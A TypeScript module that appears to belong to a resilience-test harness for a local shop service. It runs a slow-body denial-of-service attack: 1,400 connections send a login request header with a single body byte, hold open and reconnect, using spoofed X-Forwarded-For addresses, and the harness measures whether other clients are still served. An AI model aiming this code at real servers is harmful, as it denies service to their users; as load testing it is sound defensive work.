import { connect } from 'node:net';
import type { Attack } from './lib/attack.js';
import { atOnce } from './lib/load.js';
import { stillOpen } from './lib/measure.js';
import { othersDuring } from './lib/others.js';

const BODIES = 1_400;
const ADDRESSES = 8;
const ATTACK_MS = 12_000;

/** Sends the head of a request and the first byte of its body, and opens a new connection when this one is closed. */
async function sendSlowly(origin: string, index: number): Promise<void> {
  const end = performance.now() + ATTACK_MS;
  while (performance.now() < end) {
    const socket = connect(Number(new URL(origin).port), '127.0.0.1');
    const closed = new Promise((resolve) => socket.once('close', resolve));
    socket.on('error', () => undefined);
    socket.resume();
    socket.write(
      `POST /api/v1/auth/login HTTP/1.1\r\nHost: shop.test\r\nX-Forwarded-For: 198.51.100.${1 + (index % ADDRESSES)}\r\n` +
        'Content-Type: application/json\r\nContent-Length: 9\r\n\r\n{',
    );
    const timer = setTimeout(() => socket.destroy(), end - performance.now());
    await closed;
    clearTimeout(timer);
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
}

export const slowBodies: Attack = {
  name: 'slow-bodies',
  tries: `${BODIES} connections from ${ADDRESSES} addresses send one byte of a body and wait`,
  async run(shop) {
    const others = await othersDuring(shop, () =>
      atOnce(BODIES, (index) => sendSlowly(shop.origin, index)),
    );
    return [...others, await stillOpen(shop)];
  },
};
